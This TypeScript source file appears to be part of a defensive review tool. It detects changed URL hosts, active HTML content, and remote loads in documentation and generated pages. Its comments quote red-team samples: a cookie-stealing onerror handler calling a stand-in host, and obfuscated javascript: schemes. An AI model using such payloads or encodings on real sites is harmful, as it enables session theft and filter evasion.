/**
 * URL hosts in text: a changed host is never a harmless edit (a "version bump" that moves a download
 * to another server). Shared by the classifiers that accept edits to text files.
 */
import { jsTokens } from '../profiles/npm-dist.js';
const URL = /\b(?:https?|ftp|git|ssh|rsync):\/\/(?:[^\s/@'"<>()]*@)?([A-Za-z0-9.-]+)/gi;

/** The lower-cased hosts of every URL in `text`. */
export function urlHosts(text: string): Set<string> {
  const out = new Set<string>();
  for (const m of text.matchAll(URL)) out.add(m[1]!.toLowerCase().replace(/\.$/, ''));
  return out;
}

/** A whole URL: scheme, `://`, then up to a blank, a quote, a bracket or markup (`<>`, backtick, `[`, backslash). */
const WHOLE_URL = /\b(?:https?|ftp|git|ssh|rsync):\/\/[^\s<>"'`\\[\]{}|^]+/gi;
/** What ends a URL in running text and is not part of it: punctuation, a closing bracket, emphasis (`_…_`, `*…*`). */
const URL_TRAIL = /[.,;:!?)*_'"]+$/;

/** Every whole URL of `text`, its trailing punctuation dropped (the same on both sides of a comparison). */
export function wholeUrls(text: string): Set<string> {
  const out = new Set<string>();
  for (const m of text.matchAll(WHOLE_URL)) out.add(m[0].replace(URL_TRAIL, ''));
  return out;
}

/**
 * The whole URLs a markup source spells out: as written and with its backslash escapes read (reStructuredText's,
 * Markdown's `l2\_l3`, which the rendering prints as `l2_l3`: openvpn's link to media.ccc.de).
 */
export function sourceUrls(text: string): Set<string> {
  return new Set([...wholeUrls(text), ...wholeUrls(text.replace(/\\([!-/:-@[-`{-~])/g, '$1'))]);
}

/**
 * The URLs of a verbatim rendering that its source does not spell out whole (red team 25). A renderer that copies its
 * source's text (rst2html, rst2man, asciidoctor, curl's manual to help text) copies every URL as written, so a URL the
 * source lacks is text from elsewhere — even on a host the source names, with words it has: openvpn 2.6.14's
 * doc/openvpn.8.html pointing easy-rsa's link at `https://github.com/OpenVPN-tools/easy-rsa`, curl 8.14.1's help text
 * sending the reader to `https://curl-se.net/docs/ssl-ciphers.html` passed the host and word checks. `allowedHosts`:
 * the formatter's own (Docutils' style sheet and meta name docutils.sourceforge.io).
 */
export function novelUrls(rendering: string, known: ReadonlySet<string>, allowedHosts: Iterable<string> = []): string[] {
  const allowed = new Set(allowedHosts);
  // A formatter that fills lines (nroff: curl 7.88.1's help text) breaks a long URL at a hyphenation point:
  // `https://www.kernel.org/doc/Documenta-` / `tion/networking/vrf.txt`. Such a break is read as either a hyphen the
  // formatter added or one the URL has, and the URL counts as known when one reading is.
  // A filled line may also end after a URL's `/` (pam 1.5.2's modules/pam_namespace/README: `http://lwn.net/Articles/`
  // and `159077` on the next line): read as the URL going on, or as the URL ending there and a word following.
  const joined = rendering.replace(/(?<=[A-Za-z0-9])-\n[ \t]*(?=[A-Za-z0-9])/g, '\u0001').replace(/(?<=:\/\/[^\s<>"'`]*\/)\n[ \t]*(?=[A-Za-z0-9])/g, '\u0002');
  const out: string[] = [];
  for (const u of wholeUrls(joined)) {
    const slash = u.indexOf('\u0002');
    const [head, tail] = slash < 0 ? [u, undefined] : [u.slice(0, slash), u.slice(slash + 1)];
    const pieces = slash < 0 ? [u] : [head, `${head}${tail}`];
    const readingsOf = (v: string) => {
      const breaks = v.replace(/\u0002/g, '').split('\u0001');
      let readings = [breaks[0]!];
      for (const part of breaks.slice(1)) readings = readings.length > 16 ? readings.map((r) => `${r}-${part}`) : readings.flatMap((r) => [`${r}${part}`, `${r}-${part}`]);
      return readings;
    };
    const readings = pieces.flatMap(readingsOf);
    if (readings.some((r) => known.has(r.replace(URL_TRAIL, '')))) continue;
    const hosts = [...urlHosts(readings[0]!)];
    if (!(hosts.length && hosts.every((h) => allowed.has(h)))) out.push(u.replace(/\u0002/g, '').split('\u0001').join('-'));
  }
  return out;
}

/**
 * The whole URLs a documentation source spells out, read as each markup its formatters know would print them
 * (red team 26): as written, backslash escapes read (sourceUrls), troff's escapes (`\-`, `\(hy`, `\[hy]` and `\(en`
 * a hyphen, `\:` `\%` `\&` `\c` `\/` `\,` break and kerning marks dropped, `\e` a backslash, `\fB`… fonts dropped),
 * texinfo's (`@@` `@{` `@}`, `@/` `@-` `@:` dropped) and XML/HTML character references decoded. A union of readings:
 * each is the source's own text, so none adds a URL the source does not spell out.
 */
export function docSourceUrls(text: string): Set<string> {
  const troff = troffReading(text);
  // texinfo: @url/@uref's first argument is the URL, the link text after its comma is not part of it (gettext
  // 0.23.1's `@uref{https://…/manual/,,man}`)
  const texinfo = (t: string) => t.replace(/@(?:uref|url)\{([^,}]*)[^}]*\}/g, ' $1 ').replace(/@([@{}])/g, '$1').replace(/@[-/:]/g, '');
  // texinfo's @set flags and @macro definitions expanded where the source uses them (libunistring 1.0's
  // `@set POSIXURL http://…` and `@macro posixfunc{func}` … `@uref{@value{POSIXURL}/functions/\func\.html,,…}`)
  const expanded = texinfoExpansions(text).map((t) => wholeUrls(texinfo(t)));
  // a URL the source itself breaks after a `/` or `-` at a line's end, which the rendering joins (pam 1.5.2's
  // modules/pam_namespace/README.xml: `http://lwn.net/Articles/` and `159077/` on the next line)
  const joined = text.replace(/(\b(?:https?|ftp):\/\/[^\s<>"'`]*[/-])[ \t]*\n[ \t]*(?=[A-Za-z0-9])/gi, '$1');
  return new Set([...sourceUrls(text), ...wholeUrls(troff), ...wholeUrls(texinfo(text)), ...expanded.flatMap((u) => [...u]), ...wholeUrls(joined), ...wholeUrls(decodeRefs(text)), ...wholeUrls(decodeRefs(decodeRefs(text)))]);
}

/** At most this many definitions of one texinfo macro or values of one flag are read; the expanded text at most this long. */
const TEXINFO_MAX_DEFS = 4;
const TEXINFO_MAX_CHARS = 16 * 1024 * 1024;

/**
 * A texinfo source as makeinfo/texi2html read it once its macros and flags are expanded (texinfo manual, "Defining
 * New Texinfo Commands" and "@set @value"): each call `@NAME{ARG, …}` of a macro the source defines (`@macro NAME{PARAM,
 * …}` … `@end macro`, also `@rmacro`) replaced by its body with `\PARAM\` the call's argument (`\\` a backslash; one
 * parameter takes the whole braced text, commas and all; several split at commas not escaped `\,`); a macro without
 * parameters called `@NAME{}` or `@NAME`; then each `@value{NAME}` replaced by what `@set NAME VALUE` gives it. A name
 * defined more than once (an @ifinfo and an @ifnotinfo definition) is expanded with every definition side by side, and
 * a flag set to several values gives one text per value (at most TEXINFO_MAX_DEFS). Only the source's own calls are
 * expanded, so each text is one the formatter prints from it: no call, no URL. Nested calls are expanded three levels
 * deep. The texts (none when the source defines neither); the source itself is not among them.
 */
export function texinfoExpansions(text: string): string[] {
  if (!/^@(?:r?macro|set)\s/m.test(text)) return [];
  const macros = new Map<string, { params: string[]; body: string }[]>();
  const defs = /^@(r?macro)[ \t]+([A-Za-z][\w-]*)[ \t]*(?:\{([^}\n]*)\})?[ \t]*\n([\s\S]*?)^@end[ \t]+\1\b[^\n]*$/gm;
  for (const m of text.matchAll(defs)) {
    const list = macros.get(m[2]!) ?? [];
    if (list.length < TEXINFO_MAX_DEFS) list.push({ params: (m[3] ?? '').split(',').map((p) => p.trim()).filter(Boolean), body: m[4]!.replace(/\n$/, '') });
    macros.set(m[2]!, list);
  }
  let body = text.replace(defs, '');
  const names = [...macros.keys()].sort((a, b) => b.length - a.length);
  const call = names.length ? new RegExp(`@(${names.map((n) => n.replace(/[-]/g, '\\-')).join('|')})(?![\\w-])(\\{)?`, 'g') : undefined;
  for (let pass = 0; call && pass < 3; pass++) {
    let out = '';
    let last = 0;
    let any = false;
    call.lastIndex = 0;
    for (let m = call.exec(body); m; m = call.exec(body)) {
      const list = macros.get(m[1]!)!;
      let args: string[] = [];
      let end = m.index + m[0].length;
      if (m[2]) {
        // the braced argument text, to its matching brace (`@{` and `@}` are literal braces)
        let depth = 1;
        let i = end;
        for (; i < body.length && depth; i++) {
          if (body[i] === '@' && i + 1 < body.length) { i++; continue; }
          if (body[i] === '{') depth++;
          else if (body[i] === '}') depth--;
        }
        if (depth) continue;
        const inner = body.slice(end, i - 1);
        end = i;
        args = [inner];
        if (list.some((d) => d.params.length > 1)) args = inner.split(/(?<!\\),/).map((a) => a.trim().replace(/\\,/g, ','));
      } else if (list.some((d) => d.params.length)) continue;
      const expansions = list.map((d) => d.body.replace(/\\([A-Za-z][\w-]*)?\\/g, (all, p: string | undefined) => {
        if (p === undefined) return '\\';
        const k = d.params.indexOf(p);
        return k < 0 ? all : d.params.length === 1 ? args.join(',') : (args[k] ?? '');
      }));
      out += body.slice(last, m.index) + expansions.join(' ');
      last = end;
      any = true;
      call.lastIndex = end;
      if (out.length > TEXINFO_MAX_CHARS) return [];
    }
    if (!any) break;
    body = out + body.slice(last);
  }
  const values = new Map<string, string[]>();
  for (const m of body.matchAll(/^@set[ \t]+([\w-]+)(?:[ \t]+(.*?))?[ \t]*$/gm)) {
    const list = values.get(m[1]!) ?? [];
    if (list.length < TEXINFO_MAX_DEFS && !list.includes(m[2] ?? '')) list.push(m[2] ?? '');
    values.set(m[1]!, list);
  }
  const readings = Math.max(1, ...[...values.values()].map((v) => v.length));
  const out: string[] = [];
  for (let k = 0; k < readings; k++) out.push(body.replace(/@value\{([\w-]+)\}/g, (all, n: string) => { const v = values.get(n); return v ? v[Math.min(k, v.length - 1)]! : all; }));
  return out;
}

/**
 * troff as its URLs print (`\-`, `\(hy`, `\[hy]` and `\(en` a hyphen, `\(ti` a tilde, `\:` `\%` `\&` `\c` `\/` `\,` break
 * and kerning marks dropped, `\e` a backslash, `\fB`… fonts dropped): a troff source's URLs, or an unformatted page's.
 */
export function troffReading(text: string): string {
  return text
    .replace(/\\f(?:\[[^\]]*\]|\(..|.)/g, '')
    .replace(/\\(?:\(hy|\[hy\]|\(en|\[en\]|-)/g, '-')
    .replace(/\\(?:\(ti|\[ti\])/g, '~')
    .replace(/\\[:%&c/,]/g, '')
    .replace(/\\e/g, '\\');
}

/**
 * A formatted page's text as its URLs read: the hyphens a formatter prints for `-` (U+2010, U+2011, U+2212 and the
 * soft hyphen: groff's UTF-8 output — less 668's less.man prints `https://www.ecma‐international.org/…`) as `-`.
 */
export function renderedText(text: string): string {
  return text.replace(/[\u2010\u2011\u2212\u00ad]/g, '-');
}

/** Hosts in `text` that `known` lacks. */
export function newHosts(text: string, known: ReadonlySet<string>): string[] {
  return [...urlHosts(text)].filter((h) => !known.has(h));
}

/** HTML character references as a browser decodes them in an attribute: numeric (the `;` optional) and the named ones that spell URL syntax. */
const NAMED_REFS: Record<string, string> = { minus: '\u2212', hyphen: '\u2010', dash: '\u2010', shy: '\u00ad', ndash: '\u2013', colon: ':', sol: '/', bsol: '\\', tab: '\t', newline: '\n', period: '.', amp: '&', quot: '"', apos: "'", lt: '<', gt: '>', nbsp: ' ', lpar: '(', rpar: ')', num: '#', quest: '?', equals: '=', commat: '@', percnt: '%' };
const codePoint = (n: number) => (n > 0 && n <= 0x10ffff ? String.fromCodePoint(n) : '\ufffd');
export function decodeRefs(s: string): string {
  return s
    .replace(/&#x([0-9a-f]+);?/gi, (_a, n: string) => codePoint(parseInt(n, 16)))
    .replace(/&#(\d+);?/g, (_a, n: string) => codePoint(Number(n)))
    .replace(/&([a-z]+);/gi, (m, n: string) => NAMED_REFS[n.toLowerCase()] ?? m);
}
const TAG = /<([a-z][\w:-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi;
const ATTR = /([^\s"'=<>/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g;
const ACTIVE_TAGS = new Set(['script', 'iframe', 'object', 'embed', 'form', 'applet', 'base', 'portal']);
const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'cite', 'longdesc', 'usemap', 'srcset', 'ping', 'manifest', 'codebase', 'archive']);

/**
 * An HTML page's active content as a browser reads its tags (red team 13: the text patterns missed
 * `href='javascript:…'` in single quotes, `&#106;avascript:`, `java&Tab;script:`, a refresh `<meta>` whose
 * http-equiv follows its content, `<base href>`, and protocol-relative `//host` links): a script, frame, object,
 * form or base element, an `on…` handler, a refresh, or a URL attribute (entities decoded, tabs and newlines
 * dropped as browsers drop them) with a javascript:/data:/vbscript: scheme — described in a few words — and, else,
 * the hosts the URL attributes link to (`https://h`, `//h`, `https:h`), lower-cased.
 */
export function htmlActive(html: string): { active: string } | { hosts: Set<string> } {
  const hosts = new Set<string>();
  for (const t of html.replace(/<!--[\s\S]*?-->/g, ' ').matchAll(TAG)) {
    const tag = t[1]!.toLowerCase();
    if (ACTIVE_TAGS.has(tag)) return { active: `<${tag}>` };
    for (const a of t[2]!.matchAll(ATTR)) {
      const name = a[1]!.toLowerCase();
      const value = decodeRefs(a[2] ?? a[3] ?? a[4] ?? '');
      if (name.startsWith('on')) return { active: `${name}=` };
      if (name === 'http-equiv' && value.trim().toLowerCase() === 'refresh') return { active: 'http-equiv=refresh' };
      if (!URL_ATTRS.has(name)) continue;
      for (const part of ['srcset', 'ping', 'archive'].includes(name) ? value.split(/[\s,]+/) : [value]) {
        const u = part.replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+/, '');
        const scheme = /^(javascript|data|vbscript):/i.exec(u);
        if (scheme) return { active: `${name}=${scheme[1]!.toLowerCase()}:` };
        const h = /^(?:[a-z][a-z0-9+.-]*:)?[\\/]{2}(?:[^\\/?#@\s]*@)?([^\\/?#:\s]+)/i.exec(u) ?? /^(?:https?|ftp|wss?):(?![\\/])(?:[^\\/?#@\s]*@)?([^\\/?#:\s]+)/i.exec(u);
        if (h) hosts.add(h[1]!.toLowerCase().replace(/\.$/, ''));
      }
    }
  }
  return { hosts };
}

/** Elements whose URL a browser fetches and runs or applies by itself when the page opens. */
const LOADING_TAGS = new Set(['script', 'iframe', 'frame', 'object', 'embed', 'link', 'base', 'portal', 'applet', 'import']);
const ABSOLUTE = /^(?:[a-z][a-z0-9+.-]*:)?[\\/]{2}(?:[^\\/?#@\s]*@)?([^\\/?#:\s]+)|^(?:https?|ftp|wss?):(?![\\/])(?:[^\\/?#@\s]*@)?([^\\/?#:\s]+)/i;

/**
 * What in a generated HTML page reaches another host by itself (red team 16): an element that loads and runs or
 * applies what it names (`<script src>`, a frame, object, embed, `<link rel=modulepreload|import>`, `<base href>`) at an absolute URL, or an
 * inline `<script>` whose code names a URL (`https://h`, `'//h`; see scriptHosts). Those hosts (none: an empty list). Relative names, images, style
 * sheets and fonts (`<link rel=stylesheet>`: Sphinx themes load Google Fonts) and links a reader clicks are not counted.
 */
export function htmlReachesOut(html: string): string[] {
  const out = new Set<string>();
  const page = html.replace(/<!--[\s\S]*?-->/g, ' ');
  for (const t of page.matchAll(TAG)) {
    const tag = t[1]!.toLowerCase();
    const attrs = [...t[2]!.matchAll(ATTR)];
    // red team 17: an event handler is inline script (`<img src=x onerror="fetch('https://h/'+document.cookie)">`), and
    // a refresh <meta> navigates by itself
    for (const a of attrs) if (/^on[a-z]+$/i.test(a[1]!)) for (const h of scriptHosts(decodeRefs(a[2] ?? a[3] ?? a[4] ?? ''))) out.add(h);
    if (tag === 'meta' && attrs.some((a) => a[1]!.toLowerCase() === 'http-equiv' && /^\s*refresh\s*$/i.test(a[2] ?? a[3] ?? a[4] ?? ''))) {
      const content = decodeRefs(attrs.find((a) => a[1]!.toLowerCase() === 'content')?.slice(2).find((v) => v !== undefined) ?? '');
      const h = ABSOLUTE.exec(content.replace(/^[^;]*;\s*(?:url\s*=\s*)?['"]?/i, '').trim());
      if (h) out.add((h[1] ?? h[2])!.toLowerCase());
    }
    if (!LOADING_TAGS.has(tag)) continue;
    if (tag === 'link') {
      // a style sheet or font (Sphinx themes load Google Fonts) is no program; a module, an HTML import or a script
      // preloaded is
      const value = (n: string) => attrs.filter((a) => a[1]!.toLowerCase() === n).map((a) => (a[2] ?? a[3] ?? a[4] ?? '').toLowerCase()).join(' ');
      if (!/\b(?:import|modulepreload|serviceworker)\b/.test(value('rel')) && !/\b(?:script|worker|document|embed|object)\b/.test(value('as'))) continue;
    }
    for (const a of attrs) {
      const name = a[1]!.toLowerCase();
      if (!['src', 'href', 'data', 'xlink:href', 'code', 'codebase', 'archive'].includes(name)) continue;
      const u = decodeRefs(a[2] ?? a[3] ?? a[4] ?? '').replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+/, '');
      const h = ABSOLUTE.exec(u);
      if (h) out.add((h[1] ?? h[2])!.toLowerCase());
    }
  }
  // scripts are read from the page as written: `<!--` inside a script's text opens no HTML comment (red team 17:
  // `var a = "<!--"; fetch("https://h"); var b = "-->"` was taken for one)
  for (const m of html.matchAll(/<script\b((?:[^>"']|"[^"]*"|'[^']*')*)>([\s\S]*?)<\/script\s*>/gi)) {
    if (/\bsrc\s*=/i.test(m[1]!)) continue;
    for (const h of scriptHosts(m[2]!)) out.add(h);
  }
  return [...out];
}

/** Hosts a script names as XML namespaces (`document.createElementNS("http://www.w3.org/2000/svg", …)`): never fetched. */
const NAMESPACE_HOSTS = new Set(['www.w3.org']);

/**
 * The hosts a script's code names (red team 16): URLs (`https://h`) and protocol-relative strings (`'//h'`) outside
 * its comments, XML namespace hosts left out. A URL in a comment (jQuery's links to its bug tracker) is not code.
 */
export function scriptHosts(js: string): string[] {
  // Comments are found by a tokeniser that keeps strings, templates and regular expressions whole (red team 17: a
  // pattern over the raw text took `"/*"; fetch("https://h"); "*/"` for a comment, and `" //"` for one too).
  // The pages are read as latin1: their UTF-8 (a U+2028 line end) is read again as UTF-8 for the tokeniser.
  const text = /[^\u0000-\u00ff]/.test(js) ? js : Buffer.from(js, 'latin1').toString('utf8');
  const code = jsTokens(text).join(' ');
  const out = new Set(urlHosts(code));
  for (const m of code.matchAll(/["'`]\s*\/\/([a-z0-9-]+(?:\.[a-z0-9-]+)+)/gi)) out.add(m[1]!.toLowerCase());
  return [...out].filter((h) => !NAMESPACE_HOSTS.has(h));
}
